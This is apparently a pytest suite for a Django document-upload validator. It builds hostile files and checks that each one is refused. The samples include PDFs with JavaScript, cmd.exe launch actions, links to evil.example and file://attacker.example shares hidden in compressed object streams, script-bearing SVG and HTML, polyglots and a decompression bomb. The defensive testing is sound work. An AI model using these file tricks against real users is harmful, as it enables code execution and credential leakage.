"""Hostile uploads are refused through the real upload page, each with a message that says what
is wrong, and nothing is stored; ordinary scans and documents are all accepted.

Every file is made here: images with Pillow, PDFs with pypdf, WeasyPrint or by hand where a
library would not write the hostile part (an object stream hiding a script).
"""

from __future__ import annotations

import html
import io
import socket
import socketserver
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, ImageDraw, ImageFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from applications import services
from applications.constants import Outcome
from applications.models import Application
from applications.tasks import render_decision_pdf
from documents.inspection import UploadRefused, pdf_has_active_content, validate_upload
from tests.applications.factories import ApplicationFactory, pdf_bytes

pytestmark = pytest.mark.django_db

A4_300_DPI = (2480, 3508)

# --- Making files -----------------------------------------------------------------------------


def scan_image(image_format: str, *, size: tuple[int, int] = A4_300_DPI, **options) -> bytes:
    """A page as a scanner or a phone makes it: text lines on a slightly grey page."""
    image = Image.new("L", size, 246)
    draw = ImageDraw.Draw(image)
    for line in range(40):
        y = 200 + line * 80
        draw.rectangle((200, y, 200 + (line * 137) % 1800 + 200, y + 28), fill=40)
    draw.text((200, 120), "CESTOVNI PAS / PASSPORT", fill=0)
    buffer = io.BytesIO()
    image.save(buffer, image_format, dpi=(300, 300), **options)
    return buffer.getvalue()


def writer_pdf(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank_pdf_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def pdf_with_open_action(action: dict[str, object]) -> bytes:
    writer = blank_pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(key): value for key, value in action.items()}
    )
    return writer_pdf(writer)


def pdf_with_catalogue_action(trigger: str, action: dict[str, object]) -> bytes:
    """A PDF whose catalogue runs ``action`` on a document event (/AA: /WC before closing, /WS
    before saving, /DP after printing...)."""
    writer = blank_pdf_writer()
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {
            NameObject(trigger): DictionaryObject(
                {NameObject(key): value for key, value in action.items()}
            )
        }
    )
    return writer_pdf(writer)


def pdf_with_packed_page(page: bytes, *objects: bytes) -> bytes:
    """A one-page PDF whose catalogue (1), page (3) and ``objects`` (4, 5...) are all packed in a
    compressed object stream: nothing in them can be seen in the file's bytes."""
    return pdf_with_object_stream(
        packed={
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
            **{number: obj for number, obj in enumerate(objects, start=4)},
        },
        plain={2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"},
    )


def pdf_with_object_stream(*, packed: dict[int, bytes], plain: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose ``packed`` objects sit in one compressed object stream, found through a
    compressed cross-reference stream, as Acrobat and most libraries write them. Object 1 is the
    catalogue. Nothing in ``packed`` can be seen in the file's bytes."""
    stream_number = max([*packed, *plain]) + 1
    xref_number = stream_number + 1
    index, body = b"", b""
    for number, obj in packed.items():
        index += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    data = zlib.compress(index + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(packed),
        len(index),
        len(data),
    )
    out += b"stream\n" + data + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    position_in_stream = {number: i for i, number in enumerate(packed)}
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_number, position_in_stream[number]))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (
        xref_number,
        xref_number + 1,
    )
    out += b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(xref)
    out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def png_claiming(width: int, height: int) -> bytes:
    """A valid PNG header claiming ``width`` by ``height`` pixels, with a few bytes of pixel data:
    a decompression bomb as it arrives."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + chunk(b"IEND", b"")
    )


def pdf_of_tiny_objects(count: int) -> bytes:
    """A PDF of ``count`` empty objects: cheap to send, slow to read one by one."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number in range(1, count + 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n<< >>\nendobj\n" % number
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (count + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count + 1, xref)
    return bytes(out)


def elf_program() -> bytes:
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + b"\0" * 256


def windows_program() -> bytes:
    pe_header = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + pe_header + b"\0" * 300


def zip_archive(name: str = "passport.pdf", data: bytes = b"%PDF-1.4 inside") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b"<script>fetch('/accounts/profile/').then(r => r.text()).then(alert)</script>"
    b'<rect width="100" height="100"/></svg>'
)


# --- The upload page --------------------------------------------------------------------------


@pytest.fixture
def draft(applicant) -> Application:
    return ApplicationFactory(applicant=applicant.applicants.get())


@pytest.fixture
def upload(client, applicant, draft, settings):
    """Send one file through the documents page as the applicant; return the page's text."""
    client.force_login(applicant)
    storage = Path(settings.STORAGES["default"]["OPTIONS"]["location"])

    def send(name: str, content: bytes) -> tuple[int, str, Path]:
        response = client.post(
            reverse("applications:documents", args=[draft.pk]),
            {"item": "travel_document", "travel_document-file": SimpleUploadedFile(name, content)},
        )
        return response.status_code, html.unescape(response.content.decode()), storage

    return send


def stored_files(storage: Path) -> list[Path]:
    return [path for path in storage.rglob("*") if path.is_file()] if storage.exists() else []


SCRIPTS_REFUSED = "This PDF contains scripts or actions that run when it is opened"
LINKS_REFUSED = (
    "This PDF contains links that open web pages or other files, which we cannot accept."
)

HOSTILE = [
    pytest.param(
        "passport.jpg",
        lambda: b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "This file is a web page (HTML), which we cannot accept.",
        id="html-renamed-jpg",
    ),
    pytest.param(
        "passport.pdf",
        lambda: scan_image("PNG", size=(400, 300)),
        "The file's name ends in .pdf, but the file is a PNG image: its name should end in .png.",
        id="png-renamed-pdf",
    ),
    pytest.param(
        "passport.pdf", elf_program, "This file is a program, which we cannot accept.", id="elf"
    ),
    pytest.param(
        "passport.pdf",
        windows_program,
        "This file is a program, which we cannot accept.",
        id="windows-exe",
    ),
    pytest.param(
        "photo.png",
        lambda: SVG_WITH_SCRIPT,
        "This file is an SVG image, which we cannot accept.",
        id="svg-renamed-png",
    ),
    pytest.param(
        "photo.svg",
        lambda: SVG_WITH_SCRIPT,
        "This file is an SVG image, which we cannot accept.",
        id="svg",
    ),
    pytest.param(
        "photo.png",
        lambda: scan_image("GIF", size=(200, 200)),
        "This file is a GIF image, which we cannot accept.",
        id="gif-renamed-png",
    ),
    pytest.param(
        "passport.pdf",
        zip_archive,
        "This file is a ZIP archive, which we cannot accept.",
        id="zip-renamed-pdf",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_open_action(
            {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
        ),
        SCRIPTS_REFUSED,
        id="pdf-javascript-open-action",
    ),
    pytest.param(
        "passport.pdf",
        lambda: writer_pdf(_with_document_javascript()),
        SCRIPTS_REFUSED,
        id="pdf-javascript-name-tree",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_object_stream(
            packed={
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                4: b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>",
            },
            plain={
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            },
        ),
        SCRIPTS_REFUSED,
        id="pdf-javascript-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_object_stream(
            # The action type itself behind a reference, on a page's open event (/AA /O).
            packed={
                1: b"<< /Type /Catalog /Pages 2 0 R >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
                4: b"<< /S 5 0 R /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>",
                5: b"/Launch",
            },
            plain={2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"},
        ),
        SCRIPTS_REFUSED,
        id="pdf-launch-hidden-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_open_action(
            {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
        ),
        SCRIPTS_REFUSED,
        id="pdf-launch",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_open_action(
            {"/S": NameObject("/GoToR"), "/F": TextStringObject("\\\\attacker\\share\\x.pdf")}
        ),
        SCRIPTS_REFUSED,
        id="pdf-remote-goto",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_open_action(
            {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example/")}
        ),
        LINKS_REFUSED,
        id="pdf-uri-open-action",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_catalogue_action(
            "/WC", {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example/")}
        ),
        LINKS_REFUSED,
        id="pdf-uri-in-catalogue-additional-actions",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /URI /URI (https://evil.example/login) >> >>",
        ),
        LINKS_REFUSED,
        id="pdf-uri-link-annotation-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            # A share on another machine: opening it hands over the reader's Windows login.
            b"/AA << /O 4 0 R >>",
            b"<< /S /URI /URI (file://attacker.example/share/x) >>",
        ),
        LINKS_REFUSED,
        id="pdf-uri-on-page-open-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (surname) /Rect [72 700 300 720] "
            b"/AA << /Fo << /S /U#52I /URI (https://evil.example/) >> >> >>",
        ),
        LINKS_REFUSED,
        id="pdf-uri-on-form-field-focus-escaped-name",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            # Harmless at first: a move within the document, then the link along its /Next.
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 5 0 R >>",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>",
            b"<< /S /URI /URI (https://evil.example/) >>",
        ),
        LINKS_REFUSED,
        id="pdf-uri-behind-goto-next-chain",
    ),
    pytest.param(
        "letter.pdf",
        lambda: _office_pdf(url="https://www.mvcr.cz/"),
        LINKS_REFUSED,
        id="office-pdf-with-web-link",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            # Acrobat runs any menu item by name.
            b"/AA << /C 4 0 R >>",
            b"<< /S /Named /N /Print >>",
        ),
        SCRIPTS_REFUSED,
        id="pdf-named-menu-action-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /Thread /F (\\\\attacker\\share\\x.pdf) /D 0 >> >>",
        ),
        SCRIPTS_REFUSED,
        id="pdf-thread-into-another-file-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(b"/AA << /O << /S /CustomReaderAction >> >>"),
        SCRIPTS_REFUSED,
        id="pdf-unknown-action-type-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_with_packed_page(
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 700 300 720] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>",
        ),
        SCRIPTS_REFUSED,
        id="pdf-submit-form-button-in-object-stream",
    ),
    pytest.param(
        "passport.pdf",
        lambda: writer_pdf(_with_attachment()),
        "This PDF has other files embedded in it",
        id="pdf-embedded-file",
    ),
    pytest.param(
        "passport.pdf",
        lambda: writer_pdf(_encrypted()),
        "This PDF is protected by a password or encryption",
        id="pdf-encrypted",
    ),
    pytest.param(
        "passport.pdf",
        lambda: b"<html><script>alert(1)</script></html>\n" + pdf_bytes("polyglot"),
        "This file contains something besides the document",
        id="pdf-with-html-prologue",
    ),
    pytest.param(
        "photo.jpg",
        lambda: scan_image("JPEG", size=(400, 300)) + zip_archive("payload.exe", b"MZ"),
        "This file contains something besides the document",
        id="jpeg-with-trailing-zip",
    ),
    pytest.param(
        "passport.pdf",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
        "The PDF could not be read",
        id="pdf-garbage",
    ),
    pytest.param(
        "passport.pdf",
        lambda: pdf_of_tiny_objects(31_000),
        "This PDF is built in too complex a way for us to check.",
        id="pdf-too-many-objects",
    ),
    pytest.param(
        "passport.pdf",
        lambda: b"%PDF-1.4\n" + b"stream\n" * 100_000,
        "The PDF could not be read",
        id="pdf-without-end-marker",
    ),
    pytest.param(
        "photo.png",
        lambda: png_claiming(30000, 30000),
        "The image is too large: at most 50 million pixels are accepted.",
        id="png-30000x30000",
    ),
    pytest.param(
        "photo.jpg",
        lambda: scan_image("JPEG", size=(1200, 1600))[:20000],
        "The image could not be read: the file may be damaged or incomplete.",
        id="truncated-jpeg",
    ),
    pytest.param(
        "photo.png",
        lambda: scan_image("PNG", size=(1200, 1600))[:-200],
        "The image could not be read: the file may be damaged or incomplete.",
        id="truncated-png",
    ),
    pytest.param("empty.pdf", lambda: b"", "The file is empty.", id="empty"),
]


def _with_document_javascript() -> PdfWriter:
    writer = blank_pdf_writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return writer


def _with_attachment() -> PdfWriter:
    writer = blank_pdf_writer()
    writer.add_attachment("invoice.exe", windows_program())
    return writer


def _encrypted() -> PdfWriter:
    writer = blank_pdf_writer()
    writer.encrypt(user_password="secret", algorithm="AES-256")
    return writer


@pytest.mark.parametrize(("name", "make", "message"), HOSTILE)
def test_hostile_upload_is_refused_with_a_clear_message(upload, draft, name, make, message):
    status, page, storage = upload(name, make())

    assert status == 200
    assert message in page
    assert not draft.documents.exists()
    assert stored_files(storage) == []


def test_an_oversized_file_is_refused(upload, draft, settings):
    settings.DOCUMENT_MAX_UPLOAD_BYTES = 1024 * 1024
    content = scan_image("JPEG", size=(200, 200)) + b"\0" * (1024 * 1024)

    status, page, storage = upload("photo.jpg", content)

    assert status == 200
    assert "The file is larger than 1 MB." in page
    assert not draft.documents.exists()
    assert stored_files(storage) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.jpg", scan_image("JPEG", size=(1200, 1600))[:20000]),
        ("photo.png", scan_image("PNG", size=(1200, 1600))[:-200]),
    ],
)
def test_a_truncated_image_is_refused_even_where_pillow_would_pad_it(monkeypatch, name, content):
    """WeasyPrint, once imported, tells Pillow to pad truncated images instead of failing."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)

    with pytest.raises(UploadRefused, match="could not be read"):
        validate_upload(SimpleUploadedFile(name, content))


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    bomb = SimpleUploadedFile("photo.png", png_claiming(30000, 30000))

    started = time.monotonic()
    with pytest.raises(UploadRefused, match="too large"):
        validate_upload(bomb)

    assert time.monotonic() - started < 1


def test_a_script_in_a_compressed_object_stream_is_invisible_to_the_byte_scan():
    """Why the PDF is parsed: the byte scan alone would let this file through."""
    content = pdf_with_object_stream(
        packed={
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
        plain={
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        },
    )
    assert not pdf_has_active_content(content)

    with pytest.raises(UploadRefused, match="scripts"):
        validate_upload(SimpleUploadedFile("passport.pdf", content))


def test_the_byte_scan_skips_stream_data_but_not_what_follows_it():
    """Compressed image data holds every byte sequence sooner or later, "/JS" included; the
    dictionaries after a stream are still read."""
    stream = b"\x00/JS \x00\xff\xd9 image data"
    content = (
        b"%%PDF-1.4\n1 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        b"2 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n" % (len(stream), stream)
    )

    assert pdf_has_active_content(content)
    assert not pdf_has_active_content(content.replace(b"/S /Launch", b"/S /GoTo"))


def test_the_pixel_limit_can_be_configured(settings):
    settings.DOCUMENT_MAX_IMAGE_PIXELS = 100_000
    with pytest.raises(UploadRefused, match=r"at most 0\.1 million pixels"):
        validate_upload(SimpleUploadedFile("photo.png", scan_image("PNG", size=(400, 300))))

    settings.DOCUMENT_MAX_IMAGE_PIXELS = 200_000
    _content, content_type = validate_upload(
        SimpleUploadedFile("photo.png", scan_image("PNG", size=(400, 300)))
    )
    assert content_type == "image/png"


# --- Ordinary documents -----------------------------------------------------------------------


def _scanned_pdf(pages: int) -> bytes:
    """What a scanner's "scan to PDF" writes: one JPEG page image per page, at 300 dpi."""
    images = [Image.open(io.BytesIO(scan_image("JPEG", quality=80))) for _ in range(pages)]
    buffer = io.BytesIO()
    images[0].save(buffer, "PDF", resolution=300, save_all=True, append_images=images[1:])
    return buffer.getvalue()


def _office_pdf(*, url: str | None = None) -> bytes:
    """What a word processor exports: it opens at the first page fitted to the window, a
    table of contents links to the second page, and a bookmark leads there too; with ``url``, a
    link points to that web page as well."""
    writer = blank_pdf_writer(pages=2)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.add_annotation(0, Link(rect=(72, 740, 300, 760), target_page_index=1))
    writer.add_outline_item(title="Annex", page_number=1)
    if url:
        writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url=url))
    return writer_pdf(writer)


def _navigation_pdf() -> bytes:
    """Every harmless action, packed in an object stream: it opens at the first page, links go
    to a page, to the next page and to a bookmark's place, a bookmark's action moves too, and
    a button resets the form and hides itself."""
    return pdf_with_object_stream(
        packed={
            1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R "
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R 6 0 R] "
            b"/AA << /O << /S /Trans /Trans << /S /Dissolve >> >> >> >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
            b"/A << /S /GoTo /D [10 0 R /XYZ 0 842 0] >> >>",
            5: b"<< /Type /Annot /Subtype /Link /Rect [72 660 300 680] /BS << /S /S /W 1 >> "
            b"/A << /S /Named /N /NextPage /Next << /S /SetOCGState /State [] >> >> >>",
            6: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (clear) "
            b"/Rect [72 620 300 640] /A << /S /ResetForm /Next << /S /Hide /T (clear) >> >> >>",
            7: b"<< /Type /Outlines /First 8 0 R /Last 9 0 R /Count 2 >>",
            8: b"<< /Title (Annex) /Parent 7 0 R /Next 9 0 R /A << /S /GoTo /D [10 0 R /Fit] >> >>",
            9: b"<< /Title (Photo) /Parent 7 0 R /Prev 8 0 R /Dest [10 0 R /Fit] >>",
        },
        plain={
            2: b"<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 2 >>",
            10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        },
    )


def _form_pdf() -> bytes:
    """A filled-in form: text fields and a checkbox, no scripts."""
    writer = blank_pdf_writer()
    page = writer.pages[0]
    fields = []
    for index, (name, value) in enumerate([("surname", "Nováková"), ("given_names", "Olena")]):
        field = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Widget"),
                    NameObject("/FT"): NameObject("/Tx"),
                    NameObject("/T"): TextStringObject(name),
                    NameObject("/V"): TextStringObject(value),
                    NameObject("/F"): NumberObject(4),
                    NameObject("/P"): page.indirect_reference,
                    NameObject("/Rect"): ArrayObject(
                        FloatObject(x) for x in (72, 700 - 40 * index, 300, 720 - 40 * index)
                    ),
                }
            )
        )
        fields.append(field)
    page[NameObject("/Annots")] = ArrayObject(fields)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(fields),
            NameObject("/NeedAppearances"): BooleanObject(True),
        }
    )
    return writer_pdf(writer)


def _weasyprint_letter(caseworker) -> bytes:
    """A decision the office itself renders (WeasyPrint): people upload these back."""
    application = ApplicationFactory(filed=True)
    services.application_claim(application=application, actor=caseworker)
    decision = services.application_decide(
        application=application,
        actor=caseworker,
        outcome=Outcome.REJECTED,
        reasoning="The applicant's means of subsistence are insufficient.",
    )
    render_decision_pdf(decision.pk)
    decision.refresh_from_db()
    with decision.document.file.open("rb") as handle:
        return handle.read()


ORDINARY = [
    pytest.param("passport.jpg", lambda: scan_image("JPEG", quality=85), id="jpeg-a4-300dpi"),
    pytest.param(
        "IMG_2041.JPEG",
        lambda: scan_image("JPEG", size=(3024, 4032), exif=Image.Exif()),
        id="phone-photo-12mp",
    ),
    pytest.param("passport.png", lambda: scan_image("PNG"), id="png-a4-300dpi"),
    pytest.param("scan.pdf", lambda: _scanned_pdf(pages=1), id="scanned-pdf"),
    pytest.param("contract.pdf", lambda: _scanned_pdf(pages=3), id="scanned-pdf-3-pages"),
    pytest.param("letter.pdf", _office_pdf, id="office-pdf-open-at-page-with-internal-links"),
    pytest.param("guide.pdf", _navigation_pdf, id="pdf-moving-within-itself-in-object-stream"),
    pytest.param("form.pdf", _form_pdf, id="pdf-form-without-scripts"),
    pytest.param("minimal.pdf", lambda: pdf_bytes("a plain scan"), id="minimal-pdf"),
]


@pytest.mark.parametrize(("name", "make"), ORDINARY)
def test_ordinary_documents_are_accepted(upload, draft, name, make):
    status, page, storage = upload(name, make())

    assert status == 302, page
    document = draft.documents.get()
    assert document.original_name == name
    assert len(stored_files(storage)) == 1


def test_a_pdf_the_office_rendered_is_accepted(upload, draft, caseworker):
    content = _weasyprint_letter(caseworker)
    assert validate_upload(SimpleUploadedFile("decision.pdf", content))[1] == "application/pdf"

    status, page, _storage = upload("decision.pdf", content)

    assert status == 302, page
    assert draft.documents.get().sha256


# --- Virus scanning (clamd) -------------------------------------------------------------------


class FakeClamd(socketserver.ThreadingMixIn, socketserver.TCPServer):
    """Speaks clamd's INSTREAM: answers ``reply`` (or hangs up, or says nothing) and keeps what
    it was sent."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, reply: bytes | None) -> None:
        self.reply = reply
        self.received: list[bytes] = []
        self.silent = threading.Event()
        super().__init__(("127.0.0.1", 0), _ClamdHandler)


class _ClamdHandler(socketserver.BaseRequestHandler):
    server: FakeClamd

    def handle(self) -> None:
        stream = self.request.makefile("rb")
        assert stream.read(10) == b"zINSTREAM\0"
        content = b""
        while size := struct.unpack("!L", stream.read(4))[0]:
            content += stream.read(size)
        self.server.received.append(content)
        if self.server.reply == b"silence":
            self.server.silent.wait(5)
        elif self.server.reply is not None:
            self.request.sendall(self.server.reply)


@pytest.fixture
def clamd(settings) -> Iterator[callable]:
    servers: list[FakeClamd] = []

    def start(reply: bytes | None) -> FakeClamd:
        server = FakeClamd(reply)
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        servers.append(server)
        settings.CLAMD_URL = f"tcp://127.0.0.1:{server.server_address[1]}"
        settings.CLAMD_TIMEOUT = 1
        return server

    yield start
    for server in servers:
        server.silent.set()
        server.shutdown()
        server.server_close()


def test_a_file_clamd_passes_is_accepted_and_clamd_saw_all_of_it(upload, draft, clamd):
    server = clamd(b"stream: OK\0")
    content = _scanned_pdf(pages=1)

    status, page, _storage = upload("scan.pdf", content)

    assert status == 302, page
    assert server.received == [content]
    assert draft.documents.count() == 1


def test_a_file_clamd_finds_a_virus_in_is_refused(upload, draft, clamd, caplog):
    clamd(b"stream: Eicar-Signature FOUND\0")

    status, page, storage = upload("passport.pdf", pdf_bytes())

    assert status == 200
    assert "Our virus check found harmful content in this file" in page
    assert not draft.documents.exists()
    assert stored_files(storage) == []
    assert "Eicar-Signature" in caplog.text
    assert "passport.pdf" not in caplog.text


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param(None, id="hangs-up"),
        pytest.param(b"silence", id="times-out"),
        pytest.param(b"INSTREAM size limit exceeded. ERROR\0", id="errors"),
    ],
)
def test_a_clamd_without_a_verdict_refuses_the_file(upload, draft, clamd, reply):
    clamd(reply)

    status, page, storage = upload("passport.pdf", pdf_bytes())

    assert status == 200
    assert "We cannot check files for viruses at the moment" in page
    assert "Try again in a few minutes." in page
    assert not draft.documents.exists()
    assert stored_files(storage) == []


def test_an_unreachable_clamd_refuses_the_file(upload, draft, settings):
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    settings.CLAMD_URL = f"tcp://127.0.0.1:{port}"

    status, page, _storage = upload("passport.pdf", pdf_bytes())

    assert status == 200
    assert "We cannot check files for viruses at the moment" in page
    assert not draft.documents.exists()


def test_clamd_on_a_unix_socket(settings, tmp_path):
    path = tmp_path / "clamd.ctl"

    class UnixClamd(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
        daemon_threads = True
        reply = b"stream: Win.Test.EICAR_HDB-1 FOUND\0"
        received: list[bytes] = []
        silent = threading.Event()

    server = UnixClamd(str(path), _ClamdHandler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    settings.CLAMD_URL = f"unix://{path}"
    try:
        with pytest.raises(UploadRefused, match="virus check found"):
            validate_upload(SimpleUploadedFile("passport.pdf", pdf_bytes()))
    finally:
        server.shutdown()
        server.server_close()
    assert server.received == [pdf_bytes()]


def test_a_mistyped_clamd_url_refuses_rather_than_skips_scanning(settings):
    settings.CLAMD_URL = "127.0.0.1:3310"
    with pytest.raises(UploadRefused, match="cannot check files for viruses"):
        validate_upload(SimpleUploadedFile("passport.pdf", pdf_bytes()))


def test_without_clamd_configured_nothing_is_scanned(settings, monkeypatch):
    settings.CLAMD_URL = ""
    monkeypatch.setattr(socket, "create_connection", _no_network)

    assert validate_upload(SimpleUploadedFile("passport.pdf", pdf_bytes()))[1] == (
        "application/pdf"
    )


def _no_network(*args, **kwargs):
    raise AssertionError("no connection expected")
